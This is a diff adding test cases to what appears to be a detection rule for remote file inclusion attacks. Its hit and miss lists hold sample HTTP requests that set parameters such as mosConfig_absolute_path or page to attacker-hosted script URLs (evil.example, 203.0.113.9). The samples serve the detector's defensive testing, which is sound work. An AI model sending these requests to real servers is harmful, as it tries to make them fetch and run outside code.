@@ -40,11 +40,15 @@ export default defineRule({
       'phtml inc dat log pl py cgi sh asp jsp',
     ),
     'GET /index.php?mosConfig_absolute_path=ftps://evil.example/a.txt HTTP/1.1',
+    'GET /a.php?page=+http://203.0.113.9/a.txt HTTP/1.1',
   ],
   misses: [
     'GET /share?url=https://news.example/story.php HTTP/1.1',
     'GET /view?file=https://cdn.example/report.pdf HTTP/1.1',
     'GET /player?content=https://cdn.example/film.mp4 HTTP/1.1',
     { message: 'mosConfig_absolute_path=http://evil.example/a.txt' },
+    'GET /index.php?mymosConfig_absolute_path=http://evil.example/a.txt HTTP/1.1',
+    'GET /index.php?mosConfig_absolute_path=http://evil.example/a.txts HTTP/1.1',
+    'GET /index.php?include_path=http://evil.example/?s HTTP/1.1',
   ],
 })
